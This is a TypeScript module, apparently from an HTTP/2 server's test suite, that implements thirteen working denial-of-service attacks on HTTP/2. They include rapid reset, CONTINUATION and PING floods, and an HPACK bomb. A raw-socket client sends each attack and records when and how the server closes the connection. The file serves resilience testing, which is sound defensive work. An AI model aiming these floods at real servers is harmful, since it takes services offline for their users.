/**
 * Thirteen attacks on HTTP/2, sent over a socket by a client that does nothing else: what their CVEs describe, from rapid
 * reset to answers behind a window that is closed, or opens byte by byte. Against any server in the clear; what ended it, and after how many frames, is told.
 */
import * as frame from '#src/protocol/h2/frames.ts';
import {
  blockOf,
  dataOf,
  frameOf,
  headersOf,
  joined,
  PING,
  resetOf,
  settingsOf,
  uint32,
  windowUpdateOf,
} from '#src/protocol/h2/server/core.fixture.ts';
import { goAwayCode, openRawH2, requestOf } from './h2-raw-client.ts';

const FRAMES = 20_000;
const BATCH = 50;
const END_ALL = frame.FLAG_END_HEADERS | frame.FLAG_END_STREAM;
/** What may be on its way when the end comes. */
const UNDER_WAY = 20 * BATCH;

export interface Attack {
  readonly name: string;
  /** The codes of GOAWAY that are right for any server. */
  readonly codes: readonly number[];
  /** Ours: one of these is counted. */
  readonly faults: readonly string[];
  /** So many frames at once, and so many more a second, at most, by the defaults of our own server. */
  readonly burst: number;
  readonly perSecond?: number;
  /** What the client sets: identifier and value, one after the other. */
  readonly settings?: readonly number[];
  readonly before?: (target: Target) => Uint8Array;
  readonly frames: (n: number, target: Target) => Uint8Array;
  readonly count?: number;
}

export interface Target {
  readonly port: number;
  /** Answers to it come later than the frames behind it, and those to `hung` never, so that streams stay open. */
  readonly late: string;
  readonly hung: string;
  /** The answer to it is long. */
  readonly long: string;
}

export interface Outcome {
  /** So many were sent; Infinity when the server did not end it. */
  readonly frames: number;
  readonly seconds: number;
  /** The code that GOAWAY had; undefined where none came. */
  readonly code: number | undefined;
}

const idOf = (n: number): number => 2 * n + 1;
const get = (n: number, path: string): Uint8Array => headersOf(idOf(n), requestOf('GET', path));
const CALM = 0xb;
const PROTOCOL = 0x1;
const FLOW = 0x3;
const CLOSED_WINDOWS = [frame.SETTINGS_INITIAL_WINDOW_SIZE, 0];
/** Handlers may go on behind a reset and keep their place: what comes then is refused, and its reset hits no stream. */
const RESETS = { faults: ['h2-reset-flood'], burst: 1000, perSecond: 200 };
const openUpload = ({ hung }: Target): Uint8Array => headersOf(1, requestOf('POST', hung), false);
const openBlock = ({ hung }: Target): Uint8Array =>
  frameOf(frame.FRAME_HEADERS, 0, 1, blockOf(requestOf('GET', hung)));
const MANY_FIELDS = blockOf(Array.from({ length: 100 }, (_, n) => [`x-${n}`, 'y'.repeat(100)] as const));

export const ATTACKS: readonly Attack[] = [
  {
    name: 'rapid reset',
    codes: [CALM],
    ...RESETS,
    frames: (n, { late }) => joined(get(n, late), resetOf(idOf(n))),
  },
  {
    name: 'made you reset, by WINDOW_UPDATE of 0',
    codes: [CALM, PROTOCOL],
    ...RESETS,
    frames: (n, { late }) => joined(get(n, late), windowUpdateOf(idOf(n), 0)),
  },
  {
    name: 'made you reset, by a window that overflows',
    codes: [CALM, FLOW],
    ...RESETS,
    frames: (n, { late }) => joined(get(n, late), windowUpdateOf(idOf(n), 2 ** 31 - 1)),
  },
  {
    name: 'CONTINUATION with fields',
    codes: [CALM],
    faults: ['h2-field-block-too-large'],
    burst: 8,
    before: openBlock,
    frames: () => frameOf(frame.FRAME_CONTINUATION, 0, 1, MANY_FIELDS),
  },
  {
    name: 'empty CONTINUATION',
    codes: [CALM],
    faults: ['h2-continuation-flood'],
    burst: 8,
    before: openBlock,
    frames: () => frameOf(frame.FRAME_CONTINUATION, 0, 1),
  },
  {
    name: 'SETTINGS',
    codes: [CALM],
    faults: ['h2-settings-flood'],
    burst: 100,
    perSecond: 10,
    frames: (n) => settingsOf(frame.SETTINGS_INITIAL_WINDOW_SIZE, n),
  },
  {
    name: 'PING',
    codes: [CALM],
    faults: ['h2-ping-flood'],
    burst: 500,
    perSecond: 50,
    frames: () => PING,
  },
  {
    name: 'empty DATA',
    codes: [CALM],
    faults: ['h2-empty-data-flood'],
    burst: 100,
    perSecond: 1,
    before: openUpload,
    frames: () => dataOf(1, 0),
  },
  {
    name: 'DATA of one byte that nobody reads',
    codes: [CALM],
    faults: ['h2-tiny-data-flood'],
    burst: 2000,
    before: openUpload,
    frames: () => dataOf(1, 1),
  },
  {
    name: 'PRIORITY churn',
    codes: [CALM],
    faults: ['h2-priority-flood'],
    burst: 400,
    perSecond: 20,
    frames: (n) => frameOf(frame.FRAME_PRIORITY, 0, idOf(n), joined(uint32(0), Uint8Array.of(n))),
  },
  {
    name: 'an HPACK bomb behind a closed window',
    codes: [CALM],
    faults: ['h2-field-bomb'],
    burst: 1,
    settings: CLOSED_WINDOWS,
    // An entry of nearly 4 KiB, and then 15,000 references of one byte.
    before: ({ late }) =>
      frameOf(
        frame.FRAME_HEADERS,
        END_ALL,
        1,
        joined(
          blockOf(requestOf('GET', late)),
          Uint8Array.of(0x40, 1, 0x61, 0x7f, 0xa1, 0x1e),
          new Uint8Array(4000).fill(0x62),
        ),
      ),
    frames: (n, { late }) =>
      frameOf(
        frame.FRAME_HEADERS,
        END_ALL,
        idOf(n + 1),
        joined(blockOf(requestOf('GET', late)), new Uint8Array(15_000).fill(0x80 | 62)),
      ),
    count: 100,
  },
  {
    name: 'requests behind a closed window',
    codes: [CALM],
    faults: ['h2-stall-flood'],
    burst: 100,
    settings: CLOSED_WINDOWS,
    frames: (n) => get(n, '/'),
    count: 100,
  },
  {
    name: 'a window that opens byte by byte',
    codes: [CALM],
    faults: ['h2-window-update-flood'],
    burst: 2000,
    perSecond: 500,
    settings: CLOSED_WINDOWS,
    before: ({ long }) => get(0, long),
    frames: () => windowUpdateOf(1, 1),
  },
];

/** The most frames that our server may let come in that time. */
export function framesAllowed({ burst, perSecond = 0 }: Attack, seconds: number): number {
  return burst + perSecond * seconds + UNDER_WAY;
}

/** @param waitMs for the end, when all frames have been sent */
export async function attack(
  target: Target,
  { settings, before, frames, count = FRAMES }: Attack,
  waitMs: number,
): Promise<Outcome> {
  const client = await openRawH2(target.port, settings);
  const startedAtMs = performance.now();
  if (before !== undefined) client.write(before(target));
  const isOver = (): boolean => client.ended || client.closed;
  let sent = 0;
  // The server has time to read each batch. It may lag behind all the same: a PING would tell, and be an attack of its own.
  for (; sent < count && !isOver(); sent += BATCH) {
    const batch = Array.from({ length: Math.min(BATCH, count - sent) }, (_, at) => frames(sent + at, target));
    client.write(joined(...batch));
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  await client.until(isOver, 'the end of the connection', waitMs).catch(() => {});
  const outcome: Outcome = {
    frames: isOver() ? sent : Number.POSITIVE_INFINITY,
    seconds: (performance.now() - startedAtMs) / 1000,
    code: goAwayCode(client),
  };
  client.destroy();
  return outcome;
}
